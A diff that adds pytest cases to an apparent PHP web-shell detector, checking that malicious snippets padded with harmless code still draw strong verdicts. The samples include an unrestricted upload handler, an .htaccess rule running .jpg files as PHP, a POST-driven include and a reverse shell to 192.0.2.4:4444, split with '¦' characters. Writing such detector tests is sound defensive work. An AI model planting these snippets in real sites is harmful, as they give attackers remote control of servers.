@@ -101,3 +101,33 @@ def test_such_a_file_is_told_of_by_no_judge_and_a_shell_that_poses_as_one_is() -
     )
     found = confidence.weigh_judgement(posing, is_upload_folder=True)
     assert posing.generated == "" and found is not None and found.certainty == "exact"
+
+
+HONEST_REST = b"\n".join(
+    b"function part%d($a) { return trim($a) . strlen($a) . number_format(%d); }" % (n, n) for n in range(400)
+)
+"""What a shell hides in: text rules for small files say nothing there."""
+
+
+@pytest.mark.parametrize(
+    "shell",
+    [
+        "move_uploaded_¦file($_¦FILES['x']['tmp_name'], $_¦FILES['x']['name']);",
+        "if (strpos($_SERVER['HTTP_¦REFERER'], 'google.')) { header('Location: https://c.example/?r=' . time()); }",
+        "stream_wrapper_register('cod', 'S'); include 'cod://' . $_POST['z'];",
+        "file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');",
+        "$s = fsockopen('192.0.2.4', 4444); proc_¦open(['/bin/sh', '-i'], [$s, $s, $s], $p);",
+    ],
+)
+def test_what_no_honest_file_does_is_an_alarm_without_a_second_judge(shell: str) -> None:
+    content = b"<?php\n" + shell.replace("¦", "").encode() + b"\n" + HONEST_REST
+    verdict = confidence.weigh_judgement(classifier.judge_content(content, "a.php", engine.load_yara_rules(None)))
+    assert verdict is not None and verdict.certainty in ("strong", "exact")
+    assert len(content) > 20_000
+
+
+def test_what_installers_do_stays_a_sign_without_a_second_judge() -> None:
+    code = "$from = 'https://192.0.2.7/a'; $to = 'setup.php'; co¦py($from, $to);".replace("¦", "")
+    content = b"<?php\n" + code.encode() + b"\n" + HONEST_REST
+    verdict = confidence.weigh_judgement(classifier.judge_content(content, "a.php", engine.load_yara_rules(None)))
+    assert verdict is not None and verdict.certainty == "weak"
